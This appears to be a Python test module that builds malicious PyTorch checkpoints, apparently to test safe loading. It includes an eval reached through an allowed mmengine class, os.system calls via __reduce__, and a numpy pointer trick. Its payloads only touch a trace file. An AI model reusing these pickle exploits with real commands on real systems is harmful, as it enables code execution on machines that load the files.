# Copyright (c) COMNet contributors. All rights reserved.
"""Checkpoints that run code, unless they are read with care.

Each writes an empty file, the trace, where it succeeds.
"""

import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

BUFFER = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
GETATTR = b'cbuiltins\ngetattr\n'
NEW, BUILD, REDUCE = b')\x81', b'b', b'R'


def text(value: str) -> bytes:
    """Push a string."""
    data = value.encode()
    return b'X' + len(data).to_bytes(4, 'little') + data


def get(owner: bytes, name: str) -> bytes:
    """Push an attribute of what ``owner`` pushes."""
    return GETATTR + owner + text(name) + b'\x86' + REDUCE


def write(path: Path, state_dict: bytes) -> Path:
    """Write a checkpoint as torch does, of pickle's own operations."""
    pickled = b'\x80\x02}' + text('state_dict') + state_dict + b's.'
    with zipfile.ZipFile(path, 'w') as file:
        file.writestr('archive/data.pkl', pickled)
        file.writestr('archive/byteorder', 'little')
        file.writestr('archive/version', '3\n')
    return path


def by_attributes(path: Path, trace: Path) -> Path:
    """Reach eval through an allowed class, and have it called.

    What a function sees as built in becomes the attributes of one buffer, its
    eval the ``__setstate__`` of another.
    """
    builtins = get(get(BUFFER, '__init__'), '__builtins__')
    evaluate = get(BUFFER + NEW + builtins + BUILD, 'eval')
    state = b'}' + text('__setstate__') + evaluate + b's'
    code = f'open({str(trace)!r}, "w").close()'
    return write(path, BUFFER + NEW + state + BUILD + text(code) + BUILD)


def by_reduction(path: Path, trace: Path) -> Path:
    """Ask for a function and for its call."""
    class Command:
        def __reduce__(self) -> tuple:
            return os.system, (f'touch {trace}', )

    torch.save(dict(state_dict=Command()), path)
    return path


def by_old_format(path: Path, trace: Path) -> Path:
    """The same without torch's archive."""
    class Command:
        def __reduce__(self) -> tuple:
            return os.system, (f'touch {trace}', )

    torch.save(dict(state_dict=Command()), path,
               _use_new_zipfile_serialization=False)
    return path


def with_pointer(path: Path) -> Path:
    """Write an array of objects whose addresses the file holds.

    With a crafted address in place of the made-up one, the object there could
    be any function.
    """
    address = (b'c_codecs\nencode\n' + text('A' * 8) + text('latin1')
               + b'\x86' + REDUCE)
    array = (b'cnumpy\nndarray\n' + b'K\x01\x85' + text('O') + address
             + b'\x87\x81')
    return write(path, array)


ATTACKS: list[Callable[[Path, Path], Path]] = [
    by_attributes, by_reduction, by_old_format]
